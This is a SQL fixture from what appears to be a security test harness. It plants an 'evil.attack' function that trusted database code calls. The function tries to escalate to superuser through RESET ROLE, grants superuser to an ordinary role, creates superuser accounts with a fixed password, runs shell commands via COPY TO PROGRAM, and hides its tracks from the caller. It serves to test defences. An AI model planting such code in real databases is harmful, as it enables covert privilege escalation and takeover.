-- tests/security/plant-common.sql: run AS gm-dbo (an ordinary role) in
-- every attacked database. The machinery every vector uses:
--
--   evil.attack(tag) is what each planted function, trigger, view, index
--   and operator calls. It tries to become a superuser the way issue 13
--   describes (RESET SESSION AUTHORIZATION, RESET ROLE), and if that gives
--   it superuser rights it makes "gm-dbo" a superuser and creates a
--   superuser role evil_<tag> (in the transaction, and once more through a
--   separate session with COPY TO PROGRAM, which survives a rollback).
--   Whatever happens, it records WHO ran it, with which rights
--   (superuser=t|f) and from what kind of session (session=super|ordinary:
--   a superuser session that runs gm-dbo's code as gm-dbo, in a SECURITY
--   DEFINER function or an index expression REINDEX evaluates, cannot
--   reset, but issue 13 forbids it too): a "gmdb-attack:" line in the
--   server log (RAISE LOG: kept even when the transaction is rolled back
--   or read-only) and, where it can, a row in public.attack_log. It always
--   returns true, so the caller goes on as if nothing happened, and puts
--   the session back the way it found it.
--
-- psql variables: psqlbin (the server's psql, for COPY TO PROGRAM); dry
-- (true: only record who ran it, try nothing: the harness's self-check).
\set ON_ERROR_STOP 1
CREATE TABLE public.attack_log (
	at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
	tag text, db text, session_user_before text, current_user_before text,
	session_user_after text, current_user_after text,
	superuser boolean,          -- the code ran with superuser rights
	superuser_session boolean); -- a superuser's session called it (as gm-dbo or not)
GRANT SELECT, INSERT ON public.attack_log TO PUBLIC;

CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.conf (psqlbin text, dry boolean);
GRANT SELECT ON evil.conf TO PUBLIC;
INSERT INTO evil.conf VALUES (:'psqlbin', :'dry');

CREATE FUNCTION evil.attack(tag text) RETURNS boolean LANGUAGE plpgsql AS $f$
DECLARE
	-- once per session, tag and user (the functions run once per row)
	k text := 'evil.f' || pg_catalog.md5(tag);
	t text;
	su0 text := session_user;
	cu0 text := current_user;
	su1 text;
	cu1 text;
	rights0 boolean;
	rights1 boolean;
	sess0 boolean;
	sess1 boolean;
	cmd text;
BEGIN
	IF pg_catalog.current_setting(k, true) = su0 || '/' || cu0 THEN
		RETURN true;
	END IF;
	t := pg_catalog.regexp_replace(pg_catalog.lower(tag), '[^a-z0-9_]', '_', 'g');
	-- rights: the current user's (what the code may do); session: the
	-- session user's (a superuser session calling gm-dbo's code at all)
	rights0 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = current_user), false);
	sess0 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = session_user), false);
	IF NOT (SELECT dry FROM evil.conf) THEN
		BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
		BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
	END IF;
	su1 := session_user;
	cu1 := current_user;
	rights1 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = current_user), false);
	sess1 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = session_user), false);
	IF rights1 AND NOT (SELECT dry FROM evil.conf) THEN
		-- first through a session of its own (survives a rollback; never
		-- waits long for a lock the caller holds), then in the transaction
		BEGIN
			cmd := pg_catalog.format('/usr/bin/timeout 5 %s -X -q -w -h %s -p %s -U postgres -d postgres -c %s -c %s -c %s >/dev/null 2>&1',
				(SELECT psqlbin FROM evil.conf),
				pg_catalog.current_setting('unix_socket_directories'),
				pg_catalog.current_setting('port'),
				'''SET lock_timeout = 300''',
				'''CREATE ROLE "evil_' || t || '_program" SUPERUSER LOGIN''',
				'''ALTER ROLE "gm-dbo" SUPERUSER''');
			EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', cmd);
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
		IF NOT coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = 'gm-dbo'), false) THEN
			BEGIN EXECUTE 'ALTER ROLE "gm-dbo" SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
		END IF;
		BEGIN
			EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN PASSWORD %L', 'evil_' || t, 'pw');
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END IF;
	RAISE LOG 'gmdb-attack: tag=% db=% before=%/% after=%/% superuser=% session=%', t, pg_catalog.current_database(),
		su0, cu0, su1, cu1, CASE WHEN rights0 OR rights1 THEN 't' ELSE 'f' END,
		CASE WHEN sess0 OR sess1 THEN 'super' ELSE 'ordinary' END;
	BEGIN
		INSERT INTO public.attack_log (tag, db, session_user_before, current_user_before,
					       session_user_after, current_user_after, superuser, superuser_session)
		VALUES (t, pg_catalog.current_database(), su0, cu0, su1, cu1, rights0 OR rights1, sess0 OR sess1);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	-- leave no trace in the session: the caller must not notice
	IF su1 IS DISTINCT FROM su0 THEN
		BEGIN EXECUTE pg_catalog.format('SET SESSION AUTHORIZATION %I', su0); EXCEPTION WHEN OTHERS THEN NULL; END;
	END IF;
	IF cu1 IS DISTINCT FROM cu0 AND cu0 IS DISTINCT FROM su0 THEN
		BEGIN EXECUTE pg_catalog.format('SET ROLE %I', cu0); EXCEPTION WHEN OTHERS THEN NULL; END;
	END IF;
	PERFORM pg_catalog.set_config(k, su0 || '/' || cu0, false);
	RETURN true;
END
$f$;

-- what the index name of vector a) calls
CREATE FUNCTION evil.p() RETURNS boolean LANGUAGE sql AS $$ SELECT evil.attack('index_name') $$;
-- what the planted triggers call (TG_ARGV[0]: the tag)
CREATE FUNCTION evil.trg() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	PERFORM evil.attack(TG_ARGV[0]);
	RETURN NULL;
END $$;
